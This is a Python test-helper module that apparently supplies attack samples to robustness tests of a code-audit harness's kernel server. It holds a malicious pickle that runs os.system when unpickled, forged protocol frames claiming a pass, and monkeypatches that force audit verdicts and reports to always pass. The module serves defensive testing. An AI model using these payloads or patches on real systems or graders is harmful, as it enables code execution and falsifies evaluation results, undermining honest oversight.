"""Attacks on the kernel server's channel, shared by the robustness tests and scripts/replay_attacks.py.

Each is Python source for a user's module: ``forge(pwned)`` defines ``forge_frames()``, which writes to
every pipe this process holds (the channel to the parent among them) an old-protocol pickled "done",
a pickle that would create the file ``pwned`` if the parent ever unpickled it, and a new-protocol
"ok" frame claiming a pass; ``PATCH_AUDIT`` / ``PATCH_SPEC`` replace attnum's verdict and report code
in the user's own process with code that always passes.
"""

from __future__ import annotations


def forge(pwned: str) -> str:
    return f'''
import os, pickle, stat, struct, json
class _Pwn:
    def __reduce__(self):
        return (os.system, ("touch {pwned}",))
def forge_frames(next_id=1):
    blobs = []
    for obj in (_Pwn(), ("done",), ("row", 0, "pass")):
        data = pickle.dumps(obj)
        blobs.append(struct.pack("!I", len(data)) + data)
    head = json.dumps({{"op": "ok", "id": next_id, "result": None, "verdict": "pass", "status": "pass"}}).encode()
    blobs.append(struct.pack("!IQ", len(head), 0) + head)
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                for b in blobs:
                    os.write(fd, b)
        except OSError:
            pass
'''


PATCH_AUDIT = '''
import math
import attnum.audit.verdict as _V, attnum.audit.engine as _E, attnum.audit.harness as _H
def _always(*a, **k):
    return _V.Verdict(status="pass", target_error=0.0, baseline_error=0.0, bound=1.0, note="")
_V.judge = _always
_H.judge = _always
_E.finish.__globals__["_nothing_tested"] = lambda results: ""
_AuditReport = _E.AuditReport
_AuditReport.passed = property(lambda self: True)
'''

PATCH_SPEC = '''
import sys
import attnum.spec_audit.engine as _SE
def _pass_row(case, fn, cfg, alpha_case, gen):
    return {"case": case.name, "k": case.k, "V": case.V, "verdict": "pass", "why": case.why, "p_value": 1.0}
_SE.run_case = _pass_row
for _m in list(sys.modules.values()):
    if getattr(_m, "run_case", None) is not None and getattr(_m, "__name__", "").startswith(("attnum", "__main__")):
        _m.run_case = _pass_row
'''

ZEROS = "    return torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype)\n"
